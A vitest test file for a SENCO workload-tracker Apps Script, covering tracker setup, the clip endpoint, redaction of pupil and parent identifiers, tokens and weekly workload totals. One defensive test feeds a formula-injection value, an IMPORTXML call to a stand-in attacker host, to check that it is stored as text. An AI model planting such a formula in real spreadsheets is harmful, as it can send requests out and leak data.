// The workload tracker in the BUILT bundle: setup and repair, the clip endpoint, tokens, and the Workload tab.
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { TASKS_HEADER } from '../../shared/tracker/trackerLayout';
import { type App, createEmulator, type Emulator, fireTriggers, loadBundle, postEvent, webAppResponse } from '../emulator';
import { sampleClip } from './sampleClip';

const CODE = 'dist/apps-script/Code.js';
beforeAll(() => {
  if (!existsSync(CODE)) execFileSync(process.execPath, ['scripts/build.mjs', 'apps-script']);
});

function tracker(options: { clock?: Date } = {}) {
  const emulator = createEmulator({ ...options, spreadsheet: { name: 'Tracker', sheets: [{ name: 'Sheet1', values: [[]] }] } });
  const app = loadBundle(emulator, CODE);
  app.call('onOpen', { authMode: 'NONE' });
  app.clickMenuItem('Set up workload tracker');
  const token = (app.call('getClipSettings') as { token: string }).token;
  return { emulator, app, token };
}

function post(app: App, body: string) {
  const reply = webAppResponse(app.call('doPost', postEvent({ body })));
  expect(reply.status).toBe(200);
  expect(reply.contentType).toBe('application/json');
  return JSON.parse(reply.body);
}
const tasks = (emulator: Emulator) => emulator.spreadsheet.getSheetByName('Tasks')!.getDataRange().getValues();

describe('Set up workload tracker', () => {
  it('creates Tasks, Workload and Settings with the header, dropdowns and date formats', () => {
    const { emulator } = tracker();
    expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).toEqual(['Sheet1', 'Tasks', 'Settings', 'Workload']);
    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
    expect(sheet.getRange(1, 1, 1, 16).getValues()[0]).toEqual([...TASKS_HEADER]);
    expect(sheet.getRange(2, 7).getDataValidation()!.spec).toMatchObject({
      criteria: 'VALUE_IN_LIST',
      values: [expect.arrayContaining(['Annual review', 'Advice contribution', 'Other']), true],
    });
    expect(sheet.getRange(2, 14).getDataValidation()!.spec).toMatchObject({
      values: [['Open', 'In progress', 'Waiting for the LA', 'Done'], true],
    });
    expect(sheet.getRange(2, 11).getNumberFormat()).toBe('dd/mm/yyyy');
    expect(emulator.spreadsheet.getSheetByName('Settings')!.getRange(2, 1, 1, 2).getValues()).toEqual([['Needs assessment request', 240]]);
  });

  it('repairs a damaged header without duplicating tabs or touching tasks', () => {
    const { emulator, app, token } = tracker();
    post(app, JSON.stringify({ token, clip: sampleClip() }));
    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
    sheet.getRange(1, 3).setValue('Who');
    const message = app.clickMenuItem('Set up workload tracker');
    expect(message).toBe('The Tasks header had changed and has been put back; no task was changed. The Workload tab is up to date.');
    expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).toEqual(['Sheet1', 'Tasks', 'Settings', 'Workload']);
    expect(sheet.getRange(1, 3).getValue()).toBe('SENCO');
    expect(tasks(emulator)).toHaveLength(2);
  });
});

describe('doPost, the clip endpoint', () => {
  it('appends one row with real date cells and answers its row number', () => {
    const { emulator, app, token } = tracker();
    const clip = sampleClip();
    expect(post(app, JSON.stringify({ token, clip }))).toEqual({ ok: true, row: 2, duplicate: false });
    const row = tasks(emulator)[1];
    expect(row[0]).toBe(clip.id);
    expect(Object.prototype.toString.call(row[1])).toBe('[object Date]');
    expect((row[1] as Date).toISOString()).toBe('2026-03-02T09:15:00.000Z');
    expect(row.slice(2, 8)).toEqual(['Ms A. Khan', 'Oak Primary', 'Anyshire', 'J.S.', 'Annual review', 'Annual review: advice for J.S.']);
    expect(row[12]).toBe(120);
    expect(row[13]).toBe('Open');
  });

  it('answers duplicate for a clip id it already has, without a second row', () => {
    const { emulator, app, token } = tracker();
    const body = JSON.stringify({ token, clip: sampleClip() });
    post(app, body);
    expect(post(app, body)).toEqual({ ok: true, row: 2, duplicate: true });
    expect(tasks(emulator)).toHaveLength(2);
  });

  it('fills in the estimate from the Settings tab when the clip has none', () => {
    const { emulator, app, token } = tracker();
    emulator.spreadsheet.getSheetByName('Settings')!.getRange(2, 2).setValue(500);
    post(app, JSON.stringify({ token, clip: sampleClip({ taskType: 'needs-assessment-request', estimatedMinutes: undefined }) }));
    expect(tasks(emulator)[1][12]).toBe(500);
  });

  it('stores text that looks like a formula as text', () => {
    const { emulator, app, token } = tracker();
    post(
      app,
      JSON.stringify({
        token,
        clip: sampleClip({
          title: '=IMPORTXML("http://evil.example","//a")',
          details: '+ more admin time',
          school: '@school',
          la: '-Anyshire',
        }),
      }),
    );
    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
    expect(sheet.getRange(2, 8).getFormula()).toBe('');
    expect(tasks(emulator)[1].slice(3, 9)).toEqual([
      '@school',
      '-Anyshire',
      'J.S.',
      'Annual review',
      '=IMPORTXML("http://evil.example","//a")',
      '+ more admin time',
    ]);
  });

  it('removes identifiers that reach it unredacted (a second line behind the extension)', () => {
    const { emulator, app, token } = tracker();
    post(app, JSON.stringify({ token, clip: sampleClip({ details: 'Call mum on 07700 900123; DOB 03/04/2015; UPN A123456789012' }) }));
    expect(String(tasks(emulator)[1][8])).not.toMatch(/07700 900123|03\/04\/2015|A123456789012/);
  });

  it('writes the kept LA contact in the last column and keeps it in the details, while the parent’s phone goes', () => {
    const { emulator, app, token } = tracker();
    const clip = sampleClip({
      details: 'Queries: jane.ellis@anyshire.gov.uk or 01632 960217 (SEN Officer). Call mum on 07700 900123.',
      laContact: 'jane.ellis@anyshire.gov.uk, 01632 960217',
      // Clipped from the council's own portal: its domain vouches for the officer's address.
      sourceUrl: 'https://send.anyshire.gov.uk/case/123',
    });
    post(app, JSON.stringify({ token, clip }));
    const [header, row] = tasks(emulator);
    expect(header.at(-1)).toBe('LA contact');
    expect(row.at(-1)).toBe('jane.ellis@anyshire.gov.uk, 01632 960217');
    expect(row[8]).toBe('Queries: jane.ellis@anyshire.gov.uk or 01632 960217 (SEN Officer). Call mum on [phone number removed].');
  });

  it('stores a clip on a Tasks tab whose empty columns were deleted by hand, growing it to the whole header', () => {
    const { emulator, app, token } = tracker();
    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
    // Only the first 16 columns left: the last two ("LA acted on", "LA contact") and every empty one deleted.
    sheet.deleteColumns(17, sheet.getMaxColumns() - 16);
    expect(sheet.getMaxColumns()).toBe(16);
    const reply = post(app, JSON.stringify({ token, clip: sampleClip({ laContact: '01632 960217' }) }));
    expect(reply).toMatchObject({ ok: true, row: 2, duplicate: false });
    expect(sheet.getMaxColumns()).toBe(18);
    expect(tasks(emulator)[1].at(-1)).toBe('01632 960217');
  });

  it('keeps in the LA contact column only what an LA domain vouches for: no label is assumed on the server', () => {
    const { emulator, app, token } = tracker();
    post(app, JSON.stringify({ token, clip: sampleClip({ laContact: 'grace.jones@acme.co.uk, 07700 900123' }) }));
    expect(tasks(emulator)[1].at(-1)).toBe('[email removed], [phone number removed]');
  });

  it('removes names, a date of birth in words and personal parts of the page address (the second line)', () => {
    const { emulator, app, token } = tracker();
    const clip = sampleClip({
      pupil: 'N.W.',
      title: 'Annual review for Noah Williams',
      details: 'Noah Williams – his date of birth is 30 September 2016. Mr & Mrs Khan will attend. NHS 943\u00A0476\u200B5919.',
      sourceUrl: 'https://ehc.example.gov.uk/pupils/noah-williams/review?pupil=Noah%20Williams&caseId=48213',
    });
    post(app, JSON.stringify({ token, clip }));
    const row = tasks(emulator)[1];
    expect(row[7]).toBe('Annual review for N.W.');
    expect(row[8]).toBe(
      'N.W. – his date of birth is [date of birth removed]. [parent/carer name removed] will attend. NHS [NHS number removed].',
    );
    expect(row[9]).toBe('https://ehc.example.gov.uk/pupils/removed/review?pupil=N.W.&caseId=48213');
  });

  it('takes two clip ids that differ only in case for the same clip', () => {
    const { emulator, app, token } = tracker();
    const clip = sampleClip();
    post(app, JSON.stringify({ token, clip }));
    expect(post(app, JSON.stringify({ token, clip: { ...clip, id: clip.id.toUpperCase() } }))).toEqual({
      ok: true,
      row: 2,
      duplicate: true,
    });
    expect(tasks(emulator)).toHaveLength(2);
  });

  it.each(['JACK', 'Jack Smith', 'J.S.M.R.A.'])('refuses a pupil field that is not initials: %j', (pupil) => {
    const { emulator, app, token } = tracker();
    const reply = post(app, JSON.stringify({ token, clip: sampleClip({ pupil }) }));
    expect(reply).toEqual({
      ok: false,
      error: { code: 'invalid-clip', message: "The clip could not be saved: pupil: the pupil's initials only, such as J.S.." },
    });
    expect(tasks(emulator)).toHaveLength(1);
  });

  it('cuts a field longer than a cell holds, saying so', () => {
    const { emulator, app, token } = tracker();
    const reply = post(app, JSON.stringify({ token, clip: sampleClip({ details: 'x'.repeat(60_000) }) }));
    expect(reply.ok).toBe(true);
    const details = String(tasks(emulator)[1][8]);
    expect(details).toHaveLength(50_000);
    expect(details.endsWith('[cut by SENCO Time: the original had 60,000 characters]')).toBe(true);
  });

  it.each([
    ['an empty body', () => '', 'bad-request', 'The request was empty: send the clip as JSON in the body.'],
    ['malformed JSON', () => '{"token": ', 'bad-request', 'The request was not valid JSON.'],
    ['a wrong token', () => JSON.stringify({ token: 'nope', clip: sampleClip() }), 'bad-token', /^The tracker did not accept this token/],
    ['no token', () => JSON.stringify({ clip: sampleClip() }), 'bad-token', /^The tracker did not accept this token/],
    [
      'a body over 100 KB',
      (token: string) => JSON.stringify({ token, clip: sampleClip({ details: 'y'.repeat(101 * 1024) }) }),
      'too-large',
      /^The clip is too large \(\d{3} KB; the limit is 100 KB\): shorten the details and send it again\.$/,
    ],
    [
      'an unknown task type',
      (token: string) => JSON.stringify({ token, clip: sampleClip({ taskType: 'coffee' }) }),
      'invalid-clip',
      /^The clip could not be saved: taskType: /,
    ],
    [
      'a full pupil name',
      (token: string) => JSON.stringify({ token, clip: sampleClip({ pupil: 'Jamie Smith' }) }),
      'invalid-clip',
      "The clip could not be saved: pupil: the pupil's initials only, such as J.S..",
    ],
    [
      'a clip id that is not a UUID',
      (token: string) => JSON.stringify({ token, clip: sampleClip({ id: '42' }) }),
      'invalid-clip',
      /^The clip could not be saved: id: /,
    ],
  ])('refuses %s with one sentence and writes nothing', (_name, body, code, message) => {
    const { emulator, app, token } = tracker();
    const reply = post(app, body(token));
    expect(reply.ok).toBe(false);
    expect(reply.error.code).toBe(code);
    expect(reply.error.message).toMatch(message);
    expect(JSON.stringify(reply)).not.toMatch(/at .*\.js:\d+|Error:/);
    expect(tasks(emulator)).toHaveLength(1);
  });

  it('answers busy while another execution holds the lock, and saves once it is free', () => {
    const { emulator, app, token } = tracker();
    emulator.locks.hold('script', { releaseAfterMs: 60_000 });
    const body = JSON.stringify({ token, clip: sampleClip() });
    expect(post(app, body).error.code).toBe('busy');
    emulator.advanceTime(61_000);
    expect(post(app, body)).toMatchObject({ ok: true, duplicate: false });
  });

  it('answers no-tracker when the Tasks tab was deleted', () => {
    const { emulator, app, token } = tracker();
    emulator.spreadsheet.deleteSheet(emulator.spreadsheet.getSheetByName('Tasks')!);
    expect(post(app, JSON.stringify({ token, clip: sampleClip() })).error.code).toBe('no-tracker');
  });
});

describe('tokens', () => {
  it('stops the old token working at once when rotated', () => {
    const { app, token } = tracker();
    const fresh = (app.call('rotateTrackerToken') as { token: string }).token;
    expect(fresh).not.toBe(token);
    expect(fresh).toMatch(/^[0-9a-f]{64}$/);
    expect(post(app, JSON.stringify({ token, clip: sampleClip() })).error.code).toBe('bad-token');
    expect(post(app, JSON.stringify({ token: fresh, clip: sampleClip() })).ok).toBe(true);
  });
  it('shows the token and deployment steps in the Clip settings dialog', () => {
    const { emulator, app } = tracker();
    app.clickMenuItem('Clip settings…');
    // The first is the welcome that Set up workload tracker showed in this new spreadsheet (menu.test.ts).
    expect(emulator.ui.dialogs.map((d) => d.title)).toEqual(['Welcome to SENCO Time', 'Clip settings']);
  });
});

describe('doGet, the health check', () => {
  it('says whether the tracker is set up, without a token and without any data', () => {
    const { app } = tracker();
    const reply = webAppResponse(app.call('doGet', {}));
    expect(JSON.parse(reply.body)).toEqual({
      ok: true,
      app: 'senco-time-tracker',
      protocol: 1,
      tracker: true,
      message: 'The workload tracker is ready to receive clips.',
    });
  });
});

describe('the Workload tab', () => {
  /** The "Week starting" table's first week, and the hours in its EHCP admin column. */
  function firstWeek(emulator: Emulator) {
    const values = emulator.spreadsheet.getSheetByName('Workload')!.getDataRange().getValues();
    const head = values.findIndex((r) => r[0] === 'Week starting');
    const week = values[head + 1];
    // With no task yet, the table has no week in it.
    if (head < 0 || !(week[0] instanceof Date)) return null;
    return {
      monday: (week[0] as Date).toISOString().slice(0, 10),
      types: values[head].slice(1, 3),
      admin: week[values[head].indexOf('EHCP admin hours')],
    };
  }

  it('is rebuilt by the first clip more than a minute after the last rebuild', () => {
    const { emulator, app, token } = tracker({ clock: new Date('2026-03-04T10:00:00Z') });
    emulator.advanceTime(61_000);
    post(app, JSON.stringify({ token, clip: sampleClip({ taskType: 'advice', estimatedMinutes: 90 }) }));
    // The clip's week starts on Monday 2 March 2026; 90 minutes is 1.5 hours, the only task type with any.
    expect(firstWeek(emulator)).toEqual({ monday: '2026-03-02', types: ['Advice contribution', 'EHCP admin hours'], admin: 1.5 });
    expect(emulator.triggers.all).toEqual([]);
  });

  it('within the minute, waits for a one-off trigger a minute after the last rebuild, made once for a burst', () => {
    const { emulator, app, token } = tracker({ clock: new Date('2026-03-04T10:00:00Z') });
    for (const minutes of [90, 30, 60])
      post(app, JSON.stringify({ token, clip: sampleClip({ taskType: 'advice', estimatedMinutes: minutes }) }));
    // Set up rebuilt it a moment ago, with no task: nothing yet, and one trigger for the three clips.
    expect(firstWeek(emulator)).toBeNull();
    expect(emulator.triggers.all.map((t) => t.handler)).toEqual(['refreshWorkloadLater']);
    expect(fireTriggers(emulator, app)).toEqual([]);
    emulator.advanceTime(60_000);
    expect(fireTriggers(emulator, app)).toEqual(['refreshed']);
    // 90 + 30 + 60 minutes = 3 hours, all in the week of Monday 2 March 2026.
    expect(firstWeek(emulator)).toEqual({ monday: '2026-03-02', types: ['Advice contribution', 'EHCP admin hours'], admin: 3 });
    // The handler deleted its trigger: none is left to count towards the 20 a user may have.
    expect(emulator.triggers.all).toEqual([]);
  });
});

describe('a busy tracker', () => {
  it('keeps saving past the 1,000 rows a new tab has, with dropdowns on the new rows', () => {
    const { emulator, app, token } = tracker();
    const sheet = emulator.spreadsheet.getSheetByName('Tasks')!;
    // 998 earlier tasks: the next clips land on rows 1000, 1001 and 1002.
    sheet.getRange(2, 1, 998, 1).setValues(Array.from({ length: 998 }, (_, i) => [`earlier-${i}`]));
    const replies = [0, 1, 2].map(() => post(app, JSON.stringify({ token, clip: sampleClip() })));
    expect(replies.map((r) => r.row)).toEqual([1000, 1001, 1002]);
    expect(sheet.getRange(1002, 14).getDataValidation()!.spec).toMatchObject({
      values: [['Open', 'In progress', 'Waiting for the LA', 'Done'], true],
    });
    expect(sheet.getRange(1002, 11).getNumberFormat()).toBe('dd/mm/yyyy');
  });

  it('keeps the due day whatever time zone the spreadsheet is in', () => {
    for (const timeZone of ['Europe/London', 'Etc/GMT', 'America/New_York']) {
      const emulator = createEmulator({ timeZone, spreadsheet: { name: 'Tracker', sheets: [{ name: 'Sheet1', values: [[]] }] } });
      const app = loadBundle(emulator, CODE);
      app.call('onOpen', { authMode: 'NONE' });
      app.clickMenuItem('Set up workload tracker');
      const token = (app.call('getClipSettings') as { token: string }).token;
      post(app, JSON.stringify({ token, clip: sampleClip({ dueDate: '2026-06-10' }) }));
      expect(emulator.spreadsheet.getSheetByName('Tasks')!.getRange(2, 11).getDisplayValue(), timeZone).toBe('10/06/2026');
    }
  });

  it('refuses a due date that does not exist', () => {
    const { app, token } = tracker();
    expect(post(app, JSON.stringify({ token, clip: sampleClip({ dueDate: '2026-02-31' }) })).error).toMatchObject({
      code: 'invalid-clip',
      message: 'The clip could not be saved: dueDate: a real date.',
    });
  });
});
